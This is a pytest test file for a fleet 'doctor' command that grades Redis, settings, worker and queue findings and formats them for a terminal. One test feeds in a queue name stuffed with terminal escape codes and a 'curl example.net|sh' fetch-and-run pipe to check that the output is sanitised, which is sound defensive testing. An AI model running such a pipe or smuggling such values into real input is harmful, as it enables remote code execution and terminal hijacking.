"""How ``runfleet doctor`` judges facts, finding by finding, and how it shows what it found."""

from datetime import UTC, datetime
from typing import Any
from uuid import UUID

import msgspec
import pytest

from shared.cli import fleet_findings, redis_findings
from shared.cli.doctor import lines
from shared.cli.findings import Facts, Finding, TaskFile, names
from shared.schedules.overdue import Standing
from shared.settings import Settings
from shared.signing import Keys
from shared.store.fleet import Queue, Worker
from shared.store.health import Health
from shared.store.redis.server_info import Server
from shared.store.tasks import Entry
from shared.store.tokens import ListedToken, Token
from shared.store.version import SCHEMA
from shared.tasks import Task, define

SECRET = "0123456789abcdef"
MB = 1024 * 1024

WELL = Server(
    name="Valkey",
    version="9.1.2",
    redis_version="7.2.4",
    role="master",
    eviction_policy="noeviction",
    evicted_keys=0,
    memory_bytes=10 * MB,
    max_memory_bytes=100 * MB,
    appends=True,
    append_fsync="everysec",
    append_is_well=True,
    save="",
    snapshot_is_well=True,
    denies_after_snapshot=True,
    connections=12,
    max_connections=1000,
)


def worker(**changes: Any) -> Worker:
    plain = Worker(
        id="box-1",
        host="box",
        pid=17,
        version="1",
        queues=("default",),
        slots=8,
        running=[],
        started_at=datetime(2026, 1, 1, tzinfo=UTC),
        heartbeat_age_ms=300,
        alive=True,
        draining=False,
    )
    return msgspec.structs.replace(plain, **changes)


def queue(name: str, depth: int, *, paused: bool = False, latency_ms: int = 0) -> Queue:
    return Queue(name=name, paused=paused, depth=depth, latency_ms=latency_ms, running=0, slots=0, workers=0)


def entry(task: Task, secret: str = SECRET, *, paused: bool = False) -> Entry:
    return Entry(task.name, define(task, Keys(secret)), task, "file", 0, paused)


def facts(server: dict[str, Any] | None = None, settings: dict[str, Any] | None = None, **changes: Any) -> Facts:
    """Those of a fleet that is well, with changes."""
    own = Settings(redis_url="rediss://redis:6379/0", secret=SECRET, token="rf_token", host="127.0.0.1")
    well = Facts(
        settings=msgspec.structs.replace(own, **(settings or {})),
        round_trip_ms=0.4,
        clock_ahead_us=20_000,
        server=msgspec.structs.replace(WELL, **(server or {})),
        layout=SCHEMA,
        leader="box-2",
        standbys=["box-3"],
        workers=[worker()],
        queues=[queue("default", 3)],
        entries=[entry(Task(name="report", run="true", cron=("@daily",)))],
        task_file=TaskFile("runfleet.toml"),
    )
    return msgspec.structs.replace(well, **changes)


def all_findings(of: Facts) -> list[Finding]:
    return [one for check in (*redis_findings.CHECKS, *fleet_findings.CHECKS) for one in check(of)]


def troubles(of: Facts) -> dict[str, str]:
    """Code → level of all that is not ok."""
    return {one.code: one.level for one in all_findings(of) if one.level != "ok"}


def test_a_fleet_that_is_well_is_given_no_advice() -> None:
    assert troubles(facts()) == {}
    assert [one for one in all_findings(facts()) if one.cure] == []


def test_lost_and_unfit_workers_are_not_reported_as_no_worker() -> None:
    said = {
        (finding.code, finding.value): finding.message
        for finding in all_findings(facts(workers=[worker(unfit="its disk is full"), worker(id="box-9", alive=False)]))
        if finding.code in {"workers", "worker-lost"}
    }
    assert said == {
        ("workers", "1, claiming no runs"): "no run can start",
        ("worker-lost", "no heartbeat for 0 s"): "it holds no runs any more",
    }


@pytest.mark.parametrize(
    ("changes", "expected"),
    [
        ({"redis_version": "6.2.14", "name": "Redis", "version": "6.2.14"}, {"version": "error"}),
        ({"role": "slave"}, {"role": "error"}),
        ({"eviction_policy": "allkeys-lru"}, {"eviction-policy": "error"}),
        ({"eviction_policy": "volatile-ttl"}, {"eviction-policy": "warning"}),
        (
            {"eviction_policy": "allkeys-lfu", "evicted_keys": 3},
            {"eviction-policy": "error", "evicted-keys": "warning"},
        ),
        ({"append_fsync": "always"}, {}),
        ({"append_fsync": None, "save": None}, {}),
        ({"append_fsync": "no"}, {"persistence": "warning"}),
        ({"appends": False}, {"persistence": "warning"}),
        ({"appends": False, "save": "3600 1"}, {"persistence": "warning"}),
        ({"appends": False, "save": None}, {"persistence": "info"}),
        ({"append_is_well": False}, {"disk": "error"}),
        ({"snapshot_is_well": False, "save": "3600 1"}, {"disk": "error"}),
        ({"snapshot_is_well": False, "save": None, "denies_after_snapshot": None}, {"disk": "error"}),
        ({"snapshot_is_well": False, "save": "3600 1", "denies_after_snapshot": False}, {"disk": "warning"}),
        ({"snapshot_is_well": False}, {"disk": "warning"}),
        ({"memory_bytes": 81 * MB}, {"memory": "warning"}),
        ({"max_memory_bytes": 0}, {"memory": "info"}),
        ({"max_connections": 16}, {"connections": "warning"}),
        ({"connections": 900}, {"connections": "warning"}),
    ],
)
def test_of_redis(changes: dict[str, Any], expected: dict[str, str]) -> None:
    assert troubles(facts(server=changes)) == expected


def test_undisclosed_facts_of_the_server_are_no_problem() -> None:
    found = troubles(msgspec.structs.replace(facts(), server=Server()))
    assert set(found.values()) == {"info"}
    assert {"version", "role", "eviction-policy", "persistence", "disk", "memory", "connections"} == found.keys()


@pytest.mark.parametrize(
    ("changes", "expected"),
    [
        ({"redis_url": "redis://redis.example:6379"}, {"tls": "warning"}),
        ({"redis_url": "redis://10.1.2.3"}, {"tls": "warning"}),
        ({"redis_url": "redis+sentinel://127.0.0.1:26379,other:26379/main"}, {"tls": "warning"}),
        ({"redis_url": "redis://localhost:6379"}, {}),
        ({"redis_url": "redis://[::1]:6379"}, {}),
        ({"redis_url": "redis://u:p@127.0.0.1:6379/1"}, {}),
        ({"redis_url": "redis+sentinel://127.0.0.1:26379,localhost:26380/main"}, {}),
        ({"redis_url": "unix:///run/redis.sock"}, {}),
        ({"redis_tls_verify": False}, {"tls-verify": "warning"}),
        ({"secret": "", "redis_url": "redis://localhost"}, {"definitions-unsigned": "warning"}),
        ({"secret": "", "redis_url": "rediss://redis.example"}, {"definitions-unsigned": "error"}),
        ({"secret": "", "redis_url": "rediss://redis.example", "unsigned": True}, {"definitions-unsigned": "warning"}),
        ({"secret": "another secret, as long"}, {"definitions-untrusted": "error"}),
        (
            {"secret": "another secret, as long", "secret_old": SECRET},
            {"definitions-old": "warning", "secret-old": "info"},
        ),
        ({"secret_old": "another secret, as long"}, {"secret-old": "info"}),
        ({"token": "", "open": True}, {"token": "info"}),
        ({"token": ""}, {}),
        ({"token": "", "host": "0.0.0.0"}, {"token": "error"}),
        ({"token": "", "host": "127.0.0.2", "open": True}, {"token": "info"}),
        ({"token": "", "host": "::ffff:127.0.0.1"}, {}),
    ],
)
def test_of_settings(changes: dict[str, Any], expected: dict[str, str]) -> None:
    assert troubles(facts(settings=changes)) == expected


@pytest.mark.parametrize(
    ("changes", "expected"),
    [
        ({"round_trip_ms": 45.0}, {"redis": "warning"}),
        ({"clock_ahead_us": 1_500_000}, {"clock": "warning"}),
        ({"clock_ahead_us": -1_500_000}, {"clock": "warning"}),
        ({"layout": None}, {"layout": "info"}),
        ({"layout": SCHEMA + 1}, {"layout": "error"}),
        ({"layout": SCHEMA - 1}, {"layout": "error"}),
        ({"leader": "", "standbys": []}, {"scheduler": "error"}),
        ({"workers": [worker(), worker(id="box-9", alive=False)]}, {"worker-lost": "warning"}),
        ({"workers": []}, {"workers": "warning", "queue-unserved": "error"}),
        ({"workers": [worker(draining=True)]}, {"workers": "warning", "queue-unserved": "error"}),
        ({"workers": [], "queues": []}, {"workers": "warning", "queue-unserved": "warning"}),
        ({"queues": [queue("default", 0), queue("old", 0)]}, {}),
        ({"queues": [queue("default", 0), queue("old", 1)]}, {"queue-unserved": "error"}),
        ({"queues": [queue("default", 9, paused=True)]}, {"queue-paused": "info"}),
        ({"queues": [queue("default", 9, latency_ms=59_000)]}, {}),
        ({"queues": [queue("default", 9, latency_ms=60_000)]}, {"queue-slow": "warning"}),
        ({"standing": Standing({"report": 1}, {})}, {"schedule-overdue": "error"}),
        ({"standing": Standing({}, {"report": "no such zone"})}, {"schedule-unreadable": "error"}),
        ({"health": Health(unreadable=1, unreadable_tasks=["report"])}, {"schedule-unreadable": "error"}),
        ({"health": Health(failing={"prune report": "it raised"})}, {"scheduler-failing": "warning"}),
        ({"unreadable": {"b": "its body is odd"}}, {"definitions-unreadable": "error"}),
        ({"entries": [entry(Task(name="a", run="true"), "")]}, {"definitions-untrusted": "error"}),
        ({"entries": [entry(Task(name="a", external=True, queue="nobody"), "")]}, {}),
        ({"entries": [entry(Task(name="a", run="true", cron=("@daily",)), paused=True)]}, {"schedule-paused": "info"}),
        ({"task_file": None}, {}),
        ({"task_file": TaskFile("x.toml", problems="x.toml:3: wrong")}, {"task-file": "warning"}),
        ({"task_file": TaskFile("x.toml", added=("a",), removed=("b",))}, {"task-file": "info"}),
    ],
)
def test_of_the_fleet(changes: dict[str, Any], expected: dict[str, str]) -> None:
    assert troubles(facts(**changes)) == expected


def test_a_queue_without_workers_is_named_with_the_variable_that_helps() -> None:
    alone = facts(entries=[entry(Task(name="a", run="true", queue="reports"))], queues=[queue("reports", 14)])
    [found] = [one for one in all_findings(alone) if one.level == "error"]
    assert (found.subject, found.value) == ("queue reports", "14 waiting")
    assert "RUNFLEET_QUEUES=default,reports" in found.cure


def test_a_lost_worker_is_named_with_what_it_held() -> None:
    held = worker(id="box-9", alive=False, heartbeat_age_ms=9000, running=[UUID(int=1), UUID(int=2)])
    [found] = [one for one in all_findings(facts(workers=[worker(), held])) if one.level == "warning"]
    assert (found.subject, found.value) == ("worker box-9", "no heartbeat for 9 s")
    assert "2 runs" in found.message
    assert "process 17 on box" in found.cure


def test_signed_tasks_are_not_called_unsigned_where_only_the_secret_is_missing() -> None:
    [found] = [
        one
        for one in all_findings(facts(settings={"secret": "", "unsigned": True}))
        if one.code == "definitions-unsigned"
    ]
    assert found.message.startswith("are signed")


def test_an_api_on_loopback_needs_no_token_of_ours_and_one_for_others_does() -> None:
    assert troubles(facts(settings={"token": "", "host": "127.0.0.1"})) == {}
    assert "token" in troubles(facts(settings={"token": "", "host": "0.0.0.0"}))
    assert "token" in troubles(facts(settings={"open": True, "host": "0.0.0.0"}))


def test_tokens_that_are_refused_or_of_the_old_secret_are_named() -> None:
    token = Token(id="1", name="nightly", scope="run", created_at=datetime(2026, 1, 1, tzinfo=UTC))
    rows = [
        ListedToken(token, is_valid=False),
        ListedToken(msgspec.structs.replace(token, name="ci"), True, is_old=True),
    ]
    refused, old = [one for one in all_findings(facts(tokens=rows)) if one.code == "token-rows"]
    assert (refused.value, refused.message.partition(":")[0]) == ("1 refused", "nightly")
    assert (old.value, old.message.partition(":")[0]) == ("1 of the old secret", "ci")


def test_no_password_is_shown() -> None:
    shown = redis_findings.transport(Settings(redis_url="rediss://user:hunter2@redis.example:6380/0?client_name=x"))
    assert shown[0].value == "rediss://redis.example:6380/0"


def test_connections_grow_with_processes_and_queues_and_not_with_slots() -> None:
    one, wide, narrow = worker(), worker(slots=100, queues=("a", "b")), worker(slots=1)
    alone = redis_findings.connections_wanted([], 1, 4)
    assert alone == 2 + 4 + 1
    assert redis_findings.connections_wanted([one], 1, 4) == alone + 4 + 2 + 1
    assert redis_findings.connections_wanted([wide, narrow], 1, 4) == alone + (4 + 2 + 2) + (1 + 2 + 1)
    assert redis_findings.connections_wanted([worker(alive=False)], 1, 4) == alone


def test_a_long_list_of_names_is_cut() -> None:
    assert names(list("abcdefg")) == "a, b, c, d, e and 2 more"


FOUND = [
    Finding("role", "ok", "role", "primary", "takes writes", "never shown"),
    Finding("queue-unserved", "error", "queue reports", "14 waiting", "nobody serves it", "start a worker " * 6),
]


def test_findings_are_aligned_and_cures_stand_below() -> None:
    first, second, cure = lines(FOUND)
    assert first.index("takes") == second.index("nobody") == cure.index("→")
    assert "never shown" not in first
    assert "\x1b" not in first + second + cure


def test_names_that_others_wrote_control_no_terminal_and_look_like_no_finding() -> None:
    name = "x\x1b]0;title\x07\x1b[2J\r\nok       all\u202e\u2028is well; curl example.net|sh"
    shown = list(lines(fleet_findings.queues(facts(queues=[queue(name, 1)]))))
    assert [line for line in shown if not line.isprintable()] == []
    assert [line for line in shown if line.startswith("ok  ") and "all" in line] == []
    assert any("\u241b]0;title" in line for line in shown)
    assert not any("RUNFLEET_QUEUES" in line for line in shown)  # nothing to copy into a shell


def test_sentences_are_folded_on_a_terminal_and_levels_coloured() -> None:
    shown = list(lines(FOUND, width=76, colours=True))
    assert len(shown) > 3
    assert all(len(line) <= 76 + len("\x1b[31m\x1b[0m") for line in shown)
    assert shown[1].startswith("\x1b[31merror")
